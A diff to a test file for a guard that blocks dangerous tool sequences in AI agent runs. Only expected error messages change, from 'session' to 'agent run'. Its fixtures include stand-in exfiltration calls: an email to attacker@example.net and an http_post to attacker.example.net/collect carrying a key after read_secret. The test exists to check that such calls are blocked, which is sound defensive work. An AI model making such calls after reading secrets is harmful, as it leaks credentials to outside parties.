@@ -172,7 +172,7 @@ describe('dangerous combinations', () => {
       w,
       'send_email',
       { to: 'attacker@example.net', subject: 'key', body: 'see attached' },
-      'send_email is not allowed after read_secret in the same session (workflow secret_exfiltration)',
+      'send_email is not allowed after read_secret in the same agent run (workflow secret_exfiltration)',
     );
     expect(mail.reasons).toEqual([
       expect.objectContaining({
@@ -185,7 +185,7 @@ describe('dangerous combinations', () => {
       w,
       'http_post',
       { url: 'https://attacker.example.net/collect', body: 'key' },
-      'http_post is not allowed after read_secret in the same session',
+      'http_post is not allowed after read_secret in the same agent run',
       '[workflow.forbidden_sequence]',
     );
     // Unrelated tools keep working.
